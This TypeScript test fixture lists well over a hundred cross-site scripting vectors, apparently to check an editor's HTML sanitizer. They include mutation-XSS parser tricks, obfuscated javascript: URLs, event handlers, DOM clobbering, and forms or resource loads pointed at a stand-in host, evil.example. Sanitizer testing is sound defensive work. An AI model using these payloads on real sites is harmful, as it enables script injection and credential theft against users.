/** The script that every vector tries to run. */
const attack = 'window.__pwned=1'
const handled = `onerror=${attack}`

/**
 * Vectors that make a page run, load or show what an editor must not be able to add. The most recent
 * ones come first: mutation XSS, which a parser reads differently the second time.
 */
export const hostileHtml: readonly (readonly [vector: string, html: string])[] = [
  // Mutation XSS.
  [
    'math and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ${handled}&gt;">`,
  ],
  [
    'math, table and malignmark',
    `<form><math><mtext></form><form><mglyph><style></math><img src ${handled}>`,
  ],
  ['svg and style', `<svg></p><style><a id="</style><img src=1 ${handled}>">`],
  ['svg title', `<svg><title><style><img src=1 ${handled}></style></title></svg>`],
  ['svg desc', `<svg><desc><noscript><p title="</noscript><img src=1 ${handled}>"></desc></svg>`],
  [
    'svg foreignObject and style',
    `<svg><foreignObject><style><!--</style><img src=1 ${handled}>--></style></foreignObject></svg>`,
  ],
  [
    'math annotation-xml',
    `<math><annotation-xml encoding="text/html"><style><img src=1 ${handled}></style></annotation-xml></math>`,
  ],
  ['math href', `<math><a xlink:href="javascript:${attack}">press</a></math>`],
  ['select in svg', `<svg><select><style><img src=1 ${handled}></style></select></svg>`],
  ['table that lets out', `<table><img src=1 ${handled}><td><svg onload=${attack}></table>`],
  ['a paragraph in svg', `<svg><p><style><g title="</style><img src=1 ${handled}>">`],
  ['noscript', `<noscript><p title="</noscript><img src=1 ${handled}>"></noscript>`],
  ['noembed', `<noembed><img title="</noembed><img src=1 ${handled}>"></noembed>`],
  ['noframes', `<noframes><img title="</noframes><img src=1 ${handled}>"></noframes>`],
  ['xmp', `<xmp><img title="</xmp><img src=1 ${handled}>"></xmp>`],
  ['textarea', `<textarea><img title="</textarea><img src=1 ${handled}>"></textarea>`],
  ['title', `<title><img title="</title><img src=1 ${handled}>"></title>`],
  ['iframe as text', `<iframe><img title="</iframe><img src=1 ${handled}>"></iframe>`],
  ['style as text', `<style><img title="</style><img src=1 ${handled}>"></style>`],
  [
    'option and select',
    `<select><option><style></option></select><img src=1 ${handled}></style></select>`,
  ],
  ['template', `<template><script>${attack}</script><img src=1 ${handled}></template>`],
  [
    'template with a shadow root',
    `<div><template shadowrootmode=open><img src=1 ${handled}></template></div>`,
  ],
  ['plaintext', `<plaintext><img src=1 ${handled}>`],
  ['listing', `<listing>&lt;img src=1 ${handled}&gt;</listing>`],
  ['frameset', `<frameset onload=${attack}><frame src="javascript:${attack}"></frameset>`],
  ['an end that nobody began', `</p></div></main></body></html><script>${attack}</script>`],
  ['a beginning that nobody ends', `<div><main><section><a href="/x"><b><i><script>${attack}`],
  // Scripts.
  ['script', `<script>${attack}</script>`],
  ['script in capitals', `<SCRIPT>${attack}</SCRIPT>`],
  ['script from elsewhere', '<script src="https://evil.example/x.js"></script>'],
  ['script as data', `<script src="data:text/javascript,${attack}"></script>`],
  ['script module', `<script type=module>${attack}</script>`],
  ['script with slashes', `<script/x/src=data:,${attack}></script/y>`],
  ['script in a script', `<scr<script>ipt>${attack}</scr</script>ipt>`],
  ['script after a broken tag', `<<script>${attack}//<</script>`],
  ['script with NUL', `<scr\u0000ipt>${attack}</scr\u0000ipt>`],
  ['script in svg', `<svg><script>${attack}</script></svg>`],
  ['script in svg by href', `<svg><script href="data:,${attack}"/></svg>`],
  ['script in CDATA', `<svg><![CDATA[><script>${attack}</script>]]></svg>`],
  ['CDATA', `<![CDATA[<img src=1 ${handled}>]]>`],
  ['the end of a script', `</script><script>${attack}</script>`],
  ['a comment in a script', `<!--<script>${attack}</script>`],
  ['comments that end early', `<!--><img src=1 ${handled}>--><!---><img src=1 ${handled}>-->`],
  ['a comment that ends with a bang', `<!-- --!><img src=1 ${handled}> -->`],
  ['a conditional comment', `<!--[if gte IE 4]><script>${attack}</script><![endif]-->`],
  ['a processing instruction', `<?xml version="1.0"?><?x ><img src=1 ${handled}>?>`],
  ['a doctype', `<!doctype html [<!ENTITY x "<script>${attack}</script>">]>&x;`],
  ['line separators', `\u2028\u2029<script>\u2028${attack}\u2029</script>`],
  // Handlers.
  ['onerror', `<img src=x.png ${handled}>`],
  ['onerror of no address', `<img src ${handled}>`],
  ['onerror behind slashes', `<img/src="x.png"/${handled}//>`],
  ['onerror behind a form feed', `<img src="x.png"\u000c${handled}>`],
  ['onerror in back ticks', '<img src=`x` onerror=`window.__pwned=1`>'],
  ['onerror in entities', '<img src=x onerror="&#119;indow.__pwned&equals;1">'],
  ['a quote that breaks out', `<img src="x.png" alt="\`"${handled}//">`],
  ['an apostrophe that breaks out', `<img src='x.png' alt='"'${handled} x='">`],
  ['an entity that breaks out', `<p title="&quot;><img src=1 ${handled}>">x</p>`],
  ['svg onload', `<svg/onload=${attack}>`],
  ['svg animate', `<svg><animate onbegin=${attack} attributeName=x dur=1s>`],
  ['svg set', `<svg><a><set attributeName=href to=javascript:${attack}><text>x</text></a></svg>`],
  ['details', `<details open ontoggle=${attack}>x</details>`],
  [
    'autofocus',
    `<input autofocus onfocus=${attack}><p tabindex=0 autofocus onfocus=${attack}>x</p>`,
  ],
  ['video', `<video ${handled}><source ${handled}></video>`],
  ['audio', `<audio src=x ${handled}></audio>`],
  ['body', `<body onload=${attack} onpageshow=${attack} onhashchange=${attack}>`],
  ['marquee', `<marquee onstart=${attack}>x</marquee>`],
  [
    'an animation',
    `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=${attack}>x</p>`,
  ],
  ['a transition', `<p style="transition:all 1s" ontransitionrun=${attack}>x</p>`],
  [
    'content visibility',
    `<p style="content-visibility:auto" oncontentvisibilityautostatechange=${attack}>x</p>`,
  ],
  ['scrollend', `<p onscrollend=${attack} style="overflow:auto;height:1px"><b>x</b></p>`],
  [
    'popover',
    `<button popovertarget=p autofocus>x</button><p popover=auto id=p onbeforetoggle=${attack}>x</p>`,
  ],
  // Addresses.
  ['javascript:', `<a href="javascript:${attack}">press</a>`],
  ['javascript: in mixed case', `<a href="JaVaScRiPt:${attack}">press</a>`],
  ['javascript: with a tab', `<a href="java\tscript:${attack}">press</a>`],
  ['javascript: with line breaks', `<a href="java\r\nscript\n:${attack}">press</a>`],
  ['javascript: behind controls', `<a href="\u0001\u001f javascript:${attack}">press</a>`],
  ['javascript: in entities', `<a href="&#106;&#x61;vascript&colon;${attack}">press</a>`],
  ['javascript: in long entities', `<a href="&#0000106avascript:${attack}">press</a>`],
  ['javascript: with named white space', `<a href="java&Tab;script&NewLine;:${attack}">press</a>`],
  ['javascript: behind a no-break space', `<a href="\u00a0javascript:${attack}">press</a>`],
  ['javascript: with a line separator', `<a href="javascript:\u2028${attack}">press</a>`],
  [
    'javascript: in an address of ours',
    `<a href="/x?javascript:${attack}" href="javascript:${attack}">press</a>`,
  ],
  ['vbscript:', '<a href="vbscript:window.__pwned=1">press</a>'],
  ['data:', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>`],
  ['view-source: and blob:', '<a href="blob:null/1">press</a><a href="view-source:/">press</a>'],
  [
    'tel: with Markdown and HTML',
    `<a href="tel:1) <img/src=1/${handled}> [press](javascript:${attack}) \\">press</a>`,
  ],
  [
    'tel: with a line of its own',
    `<a href="tel:1)\n\n# Title\n\n<img/src=1/${handled}>\n\n(">press</a>`,
  ],
  [
    'mailto: with Markdown and HTML',
    `<a href="mailto:a@b) <img/src=1/${handled}> [press](javascript:${attack}) \\">press</a>`,
  ],
  ['without a scheme', '<a href="//evil.example/">press</a><a href="\\\\evil.example">press</a>'],
  ['xlink', `<svg><a xlink:href="javascript:${attack}"><text y=20>press</text></a></svg>`],
  [
    'svg use',
    '<svg><use href="data:image/svg+xml,%3Csvg id=x onload=window.__pwned=1%3E#x"/></svg>',
  ],
  [
    'area',
    `<map name=m><area href="javascript:${attack}" shape=default></map><img usemap=#m src=x.png>`,
  ],
  ['ping', '<a href="/" ping="https://evil.example/" target=_top>press</a>'],
  // Documents.
  ['iframe', `<iframe src="javascript:parent.__pwned=1"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`],
  ['object', `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`],
  ['embed', `<embed src="javascript:${attack}">`],
  ['portal and fencedframe', '<portal src="//evil.example"></portal><fencedframe></fencedframe>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['meta refresh to a script', `<meta http-equiv=refresh content="0;url=javascript:${attack}">`],
  [
    'meta policy',
    `<meta http-equiv=content-security-policy content="script-src *"><script>${attack}</script>`,
  ],
  ['base', '<base href="https://evil.example/"><a href="x">press</a><img src="x.png">'],
  [
    'link',
    '<link rel=stylesheet href="//evil.example/x.css"><link rel=preload as=image href=//evil.example/>',
  ],
  [
    'link import',
    '<link rel=import href="//evil.example/"><link rel=prefetch href="//evil.example/">',
  ],
  // Forms.
  [
    'form',
    '<form action="//evil.example"><input name=password autofocus><button>Sign in</button></form>',
  ],
  ['formaction', `<form><button formaction="javascript:${attack}">press</button></form>`],
  ['isindex', `<isindex type=image src=1 ${handled} formaction=javascript:${attack}>`],
  ['a button of another form', `<button form=language formaction="//evil.example">press</button>`],
  // Overlays, DOM clobbering and resources.
  ['style', '<style>main{display:none}*{background:url(//evil.example)}</style>'],
  [
    'a style attribute',
    '<p style="position:fixed;inset:0;z-index:9999;background:url(//evil.example)">x</p>',
  ],
  [
    'clobbering by id',
    '<a id=content></a><a id=__remixContext href=x:y></a><b id=rtl-styles>x</b>',
  ],
  [
    'clobbering by name',
    '<img name=body><img name=getElementById><form name=__remixContext><input name=state></form>',
  ],
  [
    'clobbering by class',
    '<p class="site-header loading-overlay visually-hidden" data-language=En slot=x>x</p>',
  ],
  [
    'clobbering a form',
    '<form id=f name=cookie><input name=attributes><input name=parentNode></form>',
  ],
  ['srcset', '<img src=a.png srcset="https://evil.example/a.png 2x" sizes=100vw>'],
  [
    'picture',
    '<picture><source srcset="https://evil.example/a"><img src="https://evil.example/b"></picture>',
  ],
  [
    'background',
    '<table background="//evil.example/x"><tr><td background="//evil.example/y">x</table>',
  ],
  [
    'svg image',
    '<svg><image href="https://evil.example/x.png"/><feImage href="//evil.example/y"/></svg>',
  ],
  [
    'tabindex and accesskey',
    '<p tabindex=1 accesskey=x contenteditable hidden inert role=main aria-hidden=true>x</p>',
  ],
  [
    'bidi',
    '<p>\u202e<script>\u202c</p>\u2066<bdo dir=rtl>x</bdo><p dir="rtl" lang="ar">\u202eabc</p>',
  ],
  ['half a letter', '<p>\ud800<script>\udfff</p>'],
  ['10,000 elements in one another', '<b><span>'.repeat(5_000)],
  ['a table of a thousand columns', `<table><tr>${'<td>wide'.repeat(1_000)}</table>`],
  ['a cell over everything', '<table><tr><td colspan=1000 rowspan=65534>x</table>'],
  // Last: a page that shows it shortens the texts after it.
  ['a million letters in a word', 'w'.repeat(1_000_000)],
]

/** Many vectors in one text: the remains of one may complete another. */
export const hostileText = [
  `"'><img src=1 ${handled}>`,
  `</script><script>${attack}</script>`,
  `<!--<script>\u2028\u2029`,
  `]]>&lt;svg onload=${attack}&gt;`,
  `{{constructor.constructor('${attack}')()}}\${${attack}}`,
  `javascript:${attack}`,
  '\u202e\u0000\ud800__proto__',
].join(' ')

/** A hostile value for a web address in contact data. */
export const hostileAddress = `javascript:${attack}//https://tayyar.example/"onmouseover="${attack}`
